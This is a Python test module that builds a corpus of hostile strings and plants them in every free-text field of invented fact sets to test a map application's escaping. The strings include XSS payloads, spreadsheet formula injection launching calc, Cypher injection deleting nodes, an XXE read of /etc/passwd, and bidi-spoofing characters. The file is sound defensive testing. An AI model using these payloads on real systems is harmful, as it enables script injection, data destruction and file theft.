"""Texts that attack whoever shows them, and facts that have each of them in every field that takes any text.

Nothing here is told of anybody: all of it is invented. Which fields take any text is found by trying the models of
`graph.facts`, so that a new field is attacked as soon as there is one.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from functools import cache
from typing import Annotated, Any, NamedTuple, get_args, get_origin

from pydantic import BaseModel, TypeAdapter, ValidationError

from graph.facts import FactSet


class Hostile(NamedTuple):
    """A text, and what it attacks where it is taken for more than text."""

    text: str
    attacks: str


# Everything that could run calls `alert` or sets `window.ran`: the pages of the tests watch both.
CORPUS: tuple[Hostile, ...] = tuple(
    Hostile(text, attacks)
    for attacks, texts in {
        "a script element of its own": (
            "<script>alert(1)</script>",
            "<ScRiPt src=//example.org/x.js></sCrIpT>",
            "<svg><script>alert(1)</script></svg>",
            "<script type=module>import 'https://example.org/x.js'</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
        ),
        "the end of the script element that holds the page's data": (
            "</script><img src=x onerror=alert(1)>",
            "</SCRIPT ><script>alert(1)</script>",
            "</script\n><svg onload=alert(1)>",
            "<!--<script>alert(1)//-->",
            "<!-- <script> </script><script>alert(1)</script>",
            "--></script><script>alert(1)</script>",
            "<![CDATA[</script><script>alert(1)</script>]]>",
        ),
        "an element with an event handler": (
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=&#97lert(1)>",
            "<body onpageshow=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=alert(1)></video>",
            "<input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        ),
        "an attribute that it could leave": (
            "\" autofocus onfocus=\"alert(1)",
            "' onmouseover='alert(1)",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "` onmouseover=`alert(1)",
            "x onclick=alert(1) y",
        ),
        "an element whose text is no markup": (
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "</option></select><img src=x onerror=alert(1)>",
            "</noscript><script>alert(1)</script>",
        ),
        "an address that runs": (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)//https://example.org",
            "java\tscript:alert(1)",
            "\u0001javascript:alert(1)",
            "<a href=javascript:alert(1)>here</a>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "vbscript:msgbox(1)",
            "blob:https://example.org/7b6d",
        ),
        "the address that the page has or asks for": (
            "<base href=//example.org/>",
            "<meta http-equiv=refresh content='0;url=//example.org'>",
            "<link rel=stylesheet href=//example.org/x.css>",
            "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<form action=//example.org><button>x</button></form>",
            "<img src=//example.org/x.png>",
            "//example.org/%2e%2e",
        ),
        "styles": (
            "<style>*{display:none}</style>",
            "x;background:url(//example.org/x.png)",
            "red}*{background:url('//example.org')}",
            "expression(alert(1))",
            "\\3c script\\3e",
        ),
        "a parser that mends what it reads": (
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            "<plaintext>",
        ),
        "a template": (
            "{{ 7 * 7 }}{% raw %}",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}`;alert(1)//",
            "#{7*7}<%= 7*7 %>",
            "{name} {who} {reason} {words} {part} {title} {source} {count}",
            "$& $1 $$ $` $' \\1",
            "%s %n %(name)s",
        ),
        "JSON and JavaScript": (
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "\"};alert(1);//",
            "\\\"};alert(1);//",
            "x\u2028alert(1)\u2029y",
            "__proto__",
            "constructor",
            "toString",
            "null",
        ),
        "one escaping too few, or too many": (
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;b&amp;gt; &amp;amp;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\ufe64script\ufe65alert(1)",
        ),
        "XML, in a picture saved as SVG": (
            "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
            "<?xml-stylesheet href='javascript:alert(1)'?>",
            "]]><script>alert(1)</script>",
            "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='//example.org/x.svg#y'/></svg>",
            "<foreignObject><iframe src=javascript:alert(1)></foreignObject>",
        ),
        "a spreadsheet, in a table saved as CSV": (
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://example.org/?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\uff1d1+1",
            "a\",\"=1+1\r\n=1+1,\"b",
            "x;=1+1;y",
        ),
        "Cypher": (
            "x' OR 1=1 RETURN c //",
            "x'] DETACH DELETE c WITH ['",
            "x\\' DETACH DELETE c //",
            "`) DETACH DELETE (n",
            "\\u0027 DETACH DELETE c //",
            ":server connect",
        ),
        "Markdown": (
            "[x](javascript:alert(1)) ![x](//example.org/x.png)",
            "# x **y** | z | `w` <https://example.org>",
        ),
        "a link to a state of the map": (
            "#view=all&form=list&chosen=edge:x",
            "mali&theme=dark#lang=fr",
            "edge:GOVERNS:a:b;claim:c,d~e>f",
            "%E0%A4%A %00 %",
        ),
        "readers, by characters that turn words round or cannot be seen": (
            "\u202egnp.exe\u202c x",
            "left \u202e never closed",
            "closed by itself \u2069\u2069 \u202e and left",
            "\u2066never closed \u2067 either",
            "\u200f\u200eMali\u061c",
            "zero\u200bwidth\u200cjoin\u200der\u2060\ufeffx",
            "soft\u00adhyphen\u00a0space\u3000wide",
            "\u0420ussi\u0430n \u0441ontractors",
            "Ｍali ⓜ ﬁ ǆ",
            "Z" + "\u0300\u0301\u0302\u0303\u0489\u20dd" * 12,
            "\U000e0041\U000e0042tags\U000e007f",
            "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿",
            "مالي שלום ไทย 马里",
        ),
        "characters that are none": (
            "nul\u0000here",
            "bell\u0007 back\u0008space esc\u001b[31m del\u007f",
            "c1\u0085\u009bcontrol",
            "non\ufffecharacter\uffff",
            "line\nfeed\r\nreturn\rtab\tform\ffeed",
        ),
        "the room that there is": (
            "W" * 400,
            "word " * 120 + "end",
            "/" * 200,
        ),
    }.items()
    for text in texts
)  # fmt: skip

# Those that are dangerous as the beginning of a text only.
_FIRST = re.compile(r"[=+\-@\uff1d#]|[\x01]?\w+:|//|java")


def packs(size: int) -> list[Hostile]:
    """The corpus in texts of about `size` each, of which those are first that must be; 1: each by itself."""
    if size == 1:
        return list(CORPUS)
    first = [one for one in CORPUS if _FIRST.match(one.text)]
    others = [one for one in CORPUS if not _FIRST.match(one.text)]
    count = max(len(CORPUS) // size, len(first))
    found = [[*first[at : at + 1], *others[at::count]] for at in range(count)]
    return [Hostile(" ".join(one.text for one in pack), "; ".join(one.attacks for one in pack)) for pack in found]


HALVES = ("\ud800", "x\udc00y", "\udfff\ud800")
"""Halves of characters: no encoding of Unicode has them, so facts cannot hold them either."""

ADDRESSES: tuple[str, ...] = (
    "https://example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "https://user:word@example.org/",
    "http://example.org/javascript:alert(1)",
    "https://example.org/#javascript:alert(1)",
    "https://xn--ml-tja.example/",
    "https://ехаmple.org/",
    "https://[::1/",
    "https://{{7*7}}/",
    "https://example.org/\u202egnp.exe",
    "https://%zz/",
)
"""Addresses that are http or https, or look like it."""

PROBE = "<b>any&text"
ROLES = ("subject", "object", "holder", "speaker")


def _takes(annotation: Any, value: object) -> bool:
    try:
        TypeAdapter(annotation).validate_python(value)
    except ValidationError:
        return False
    return True


@cache
def free_fields(model: type[BaseModel]) -> dict[str, str]:
    """The fields of a model that take any text: `text`, a list of `texts`, or `by role` (a mapping)."""
    found: dict[str, str] = {}
    for name, field in model.model_fields.items():
        annotation = Annotated[field.annotation, *field.metadata] if field.metadata else field.annotation
        shapes = {"text": PROBE, "texts": [PROBE], "by role": {"subject": PROBE}}
        for shape, value in shapes.items():
            if _takes(annotation, value):
                found[name] = shape
    return found


def models(model: type[BaseModel] = FactSet) -> Iterator[type[BaseModel]]:
    """A model and all that its fields are made of."""
    yield model
    for field in model.model_fields.values():
        for inner in _models_in(field.annotation):
            yield from models(inner)


def _models_in(annotation: Any) -> Iterator[type[BaseModel]]:
    if isinstance(annotation, type) and get_origin(annotation) is None and issubclass(annotation, BaseModel):
        yield annotation
    for part in get_args(annotation):
        yield from _models_in(part)


class Field(NamedTuple):
    """A field that takes any text: of which model, and where in the facts (`actors.actors`, `files.claims`…)."""

    model: str
    place: str
    name: str

    def __str__(self) -> str:
        return f"{self.place}.{self.name}"


class Placed(NamedTuple):
    """A hostile text in its place, with the words that tell it from the same text elsewhere."""

    field: Field
    hostile: Hostile
    text: str
    entry: str
    """The id or key of what has it."""


def spoilt(base: Mapping[str, Any], which: Mapping[str, Hostile]) -> tuple[FactSet, list[Placed]]:
    """Facts with a hostile text in each field that takes any; and all of them with their places.

    `base`: facts as plain data, each entry with as much as its kind can have. `which`: the text for the entries whose
    id or key ends with `-<that>` (entries within them have the same). A text is marked with its field, so that it can
    be looked for by itself, and is in each field once: six claims with the same in all of theirs would only be slower.
    """
    spoiler = _Spoiler(which)
    return FactSet.model_validate(spoiler.entry(dict(base), FactSet, "", None, "")), spoiler.placed


class _Spoiler:
    def __init__(self, which: Mapping[str, Hostile]) -> None:
        self.which = which
        self.placed: list[Placed] = []
        self.done: set[tuple[Field, Hostile]] = set()

    def entry(
        self, entry: dict[str, Any], model: type[BaseModel], place: str, hostile: Hostile | None, name: str
    ) -> dict[str, Any]:
        """One entry with what is in it; `hostile` and `name`: of the entry that holds it."""
        if own := _own_name(entry):
            hostile, name = self.which.get(own.rpartition("-")[2]), own
        out = dict(entry)
        for key, field in model.model_fields.items():
            inner = next(_models_in(field.annotation), None)
            if inner is None or key not in entry:
                continue
            there = f"{place}.{key}".lstrip(".")
            if isinstance(entry[key], list):
                out[key] = [self.entry(one, inner, there, hostile, name) for one in entry[key]]
            else:
                out[key] = self.entry(entry[key], inner, there, hostile, name)
        if hostile:
            self.fill(out, model, place, hostile, name)
        return out

    def fill(self, out: dict[str, Any], model: type[BaseModel], place: str, hostile: Hostile, entry: str) -> None:
        for name, shape in free_fields(model).items():
            roles = [role for role in ROLES if out.get(role)]
            for part in roles if shape == "by role" else [""]:
                field = Field(model.__name__, place, f"{name}.{part}".rstrip("."))
                text = f"{hostile.text} ~{field}~{entry}"
                value: Any = {"text": text, "texts": [text]}.get(shape) or {**out.get(name, {}), part: text}
                if (field, hostile) not in self.done and _takes(model, out | {name: value}):
                    out[name] = value
                    self.done.add((field, hostile))
                    self.placed.append(Placed(field, hostile, text, entry))


def _own_name(entry: Mapping[str, Any]) -> str:
    """Its id or key; a judgement has none, and is called by its first claim."""
    judged = entry["claims"][0] if isinstance(entry.get("verdict"), str) else ""
    return str(entry.get("id") or entry.get("key") or judged)


def every_free_field() -> set[tuple[str, str]]:
    """(model, field) of all that take any text, found from the models alone."""
    return {(model.__name__, name) for model in models() for name in free_fields(model)}


def base_facts(count: int) -> dict[str, Any]:
    """Facts about nobody: `count` times whatever there can be, each entry's id or key ending in its number."""
    numbers = [f"{at:03}" for at in range(count)]
    after = dict(zip(numbers, numbers[1:] + numbers[:1], strict=True))
    return {
        "actors": {
            "actors": [{"id": f"actor-{n}", "kind": "ContractorGroup", "name": n} for n in numbers],
            "places": [
                {
                    "id": f"place-{n}",
                    "name": n,
                    "latitude": 12 + at % 9,
                    "longitude": at % 13 - 6,
                    "coordinates_from": n,
                }
                for at, n in enumerate(numbers)
            ],
            "resources": [{"id": f"resource-{n}", "name": n} for n in numbers],
            "issues": [{"id": f"issue-{n}", "name": n} for n in numbers],
            "events": [{"id": f"event-{n}", "name": n, "kind": n} for n in numbers],
        },
        "files": [*(_file(n, after[n]) for n in numbers), _root()],
        "judgements": [_judgement(n) for n in numbers],
    }


def _judgement(number: str) -> dict[str, Any]:
    source = f"source-{number}"
    return {
        "kind": "polarity", "claims": [f"{source}/sees-{number}", f"{source}/sees-not-{number}"], "verdict": "unsure",
        "reason": number, "judged_by": number, "judged_on": "2026-11-22",
    }  # fmt: skip


def _root() -> dict[str, Any]:
    of = _file("root", "root")["source"]
    return {"source": of | {"id": "root", "derived_from": []}, "claims": []}


def _file(number: str, next_one: str) -> dict[str, Any]:
    subject, other = f"actor-{number}", f"actor-{next_one}"
    claims: list[dict[str, Any]] = [
        {
            "key": f"sees-{number}", "predicate": "views", "object": other, "stance": "threat", "holder": subject,
            "speaker": other, "regarding": [f"issue-{number}"], "rank": "preferred", "rank_reason": number,
            "rank_by": number,
        },
        {"key": f"sees-not-{number}", "predicate": "views", "object": other, "stance": "threat", "polarity": "denied"},
        {
            "key": f"stands-{number}", "predicate": "deployed_in", "object": f"place-{number}",
            "quantity": {"text": number, "unit": number},
        },
        {"key": f"gives-{number}", "predicate": "supplies", "object": other, "item": number},
        {"key": f"takes-{number}", "predicate": "took_part_in", "object": f"event-{number}", "role": number},
        {"key": f"seeks-{number}", "predicate": "seeks", "object": f"resource-{number}"},
    ]  # fmt: skip
    for at, claim in enumerate(claims):
        locator = {"paragraph": 1, "sentence": at + 1, "start": at * 10, "end": at * 10 + 9, "sha256": f"{at:064x}"}
        claim |= {"subject": subject, "says": number, "locator": locator}
    return {
        "source": {
            "id": f"source-{number}", "title": number, "publisher": number, "language": "en",
            "published": "2026-02-02", "read_on": "2026-11-22", "read": "whole", "reliability": "C",
            "reliability_reason": number,
            "url": f"https://example.org/{number}",
            # In a circle nothing could re-report anything: the last one comes from one more.
            "derived_from": [
                {"source": "root" if next_one == "000" else f"source-{next_one}", "basis": "inferred", "reason": number}
            ],
        },
        "claims": claims,
    }  # fmt: skip
